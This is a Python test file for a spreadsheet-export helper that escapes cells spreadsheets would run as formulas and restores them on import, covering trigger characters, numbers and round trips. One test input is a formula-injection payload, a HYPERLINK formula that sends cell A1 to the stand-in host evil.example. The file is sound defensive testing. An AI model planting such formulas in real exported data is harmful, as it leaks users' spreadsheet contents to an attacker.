"""Cells a spreadsheet would run as formulas are made inert, and importing gives the text back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from corridor.spreadsheet import NUMBER, TRIGGERS, neutralise, restore

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=already quoted", "''=already quoted"),
        ("-3.5", "-3.5"),  # a number cannot be a formula
        ("+92", "+92"),
        ("1e-3", "1e-3"),
        ("Zainab Malik", "Zainab Malik"),
        ("'quoted name", "'quoted name"),
        ("", ""),
    ],
)
def test_spreadsheet_neutralise(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


def test_spreadsheet_leaves_numbers_and_missing_values_alone():
    assert neutralise(-77.03) == -77.03 and neutralise(None) is None


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab1. "), max_size=12))
def test_spreadsheet_round_trip(text):
    written = neutralise(text)
    assert restore(written) == text
    if written.startswith(TRIGGERS):
        assert NUMBER.fullmatch(written)  # only a plain number may start like a formula
